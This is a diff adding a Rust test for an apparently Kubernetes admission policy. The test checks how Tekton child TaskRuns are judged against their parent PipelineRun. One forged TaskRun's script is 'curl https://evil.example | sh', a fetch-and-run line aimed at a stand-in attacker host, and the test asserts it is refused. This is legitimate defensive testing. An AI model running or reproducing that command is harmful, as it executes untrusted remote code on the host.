@@ -325,3 +325,64 @@ async fn approvals_of_large_workflows_are_approvals() {
         assert_eq!(ann(&approved, "scimgate.io/approved-by"), "bob@example.com", "{name}");
     }
 }
+
+/// Pipeline users in team-a run pipelines of the library (`lib-*`) as `runner`.
+fn library_pipelines() -> String {
+    crate::support::policy_with_rules(
+        r#"
+rules:
+  - name: library
+    allow: [submit, cancel, update]
+    groups: [pipeline-users]
+    namespaces: ["team-a"]
+    runAs: ["runner"]
+    templates: ["lib-*"]
+"#,
+    )
+}
+
+/// §4: Tekton builds each child TaskRun from the pipeline it resolved — a task's `taskRef` as
+/// written, an embedded task's spec with the run's parameters substituted. A child is judged by
+/// what its admitted parent covered: before this, the embedded task was an inline definition no
+/// `templates` rule matches and the referenced task a name outside the rule, and both children
+/// were refused, stalling the run. A child the parent did not cover is judged on its own.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn tekton_children_are_judged_by_what_their_parent_covered() {
+    let w = World::with(&library_pipelines(), "").await;
+    let alice = kubectl(&w.api, "alice@example.com");
+    let tekton = tekton_controller(&w.api);
+    let pipeline = json!({"params": [{"name": "go", "type": "string"}], "tasks": [
+        {"name": "compile", "taskSpec": {"metadata": {"labels": {"app": "x"}}, "params": [],
+            "steps": [{"name": "build", "image": "golang:$(params.go)", "script": "go build ./..."}]}},
+        {"name": "publish", "taskRef": {"name": "publish-task", "kind": "Task"}, "runAfter": ["compile"]}]});
+    let pr = json!({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
+        "metadata": {"name": "deploy-1", "namespace": "team-a"},
+        "spec": {"pipelineRef": {"name": "lib-deploy"}, "params": [{"name": "go", "value": "1.23"}],
+            "taskRunTemplate": {"serviceAccountName": "runner"}}});
+    let pr = allowed(alice.create(&pr).await).object;
+    allowed(tekton.resolve(&pr, &pipeline).await);
+    for task in ["compile", "publish"] {
+        let child = allowed(tekton.create_child(&pr, task).await).object;
+        assert_eq!(ann(&child, "scimgate.io/submitted-by"), "alice@example.com", "{task}");
+    }
+    // A child that is not what its parent's resolved pipeline says (the pipeline changed since,
+    // or the child is not the controller's doing): judged on its own.
+    let pr2 = json!({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
+        "metadata": {"name": "deploy-2", "namespace": "team-a"},
+        "spec": {"pipelineRef": {"name": "lib-deploy"}, "taskRunTemplate": {"serviceAccountName": "runner"}}});
+    let pr2 = allowed(alice.create(&pr2).await).object;
+    allowed(tekton.resolve(&pr2, &pipeline).await);
+    let tr = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
+        "metadata": {"name": "deploy-2-compile", "namespace": "team-a",
+            "labels": {"tekton.dev/pipelineTask": "compile", "tekton.dev/pipelineRun": "deploy-2"},
+            "ownerReferences": [{"apiVersion": "tekton.dev/v1", "kind": "PipelineRun", "name": "deploy-2",
+                "uid": pr2["metadata"]["uid"], "controller": true, "blockOwnerDeletion": true}]},
+        "spec": {"serviceAccountName": "runner", "taskSpec": {"steps": [
+            {"name": "build", "image": "golang:1.23", "script": "curl https://evil.example | sh"}]}}});
+    let r = refused(w.api.create(&tekton.user, tr).await);
+    assert!(
+        r.message.contains("inline") && r.message.contains("judged on its own"),
+        "{}",
+        r.message
+    );
+}
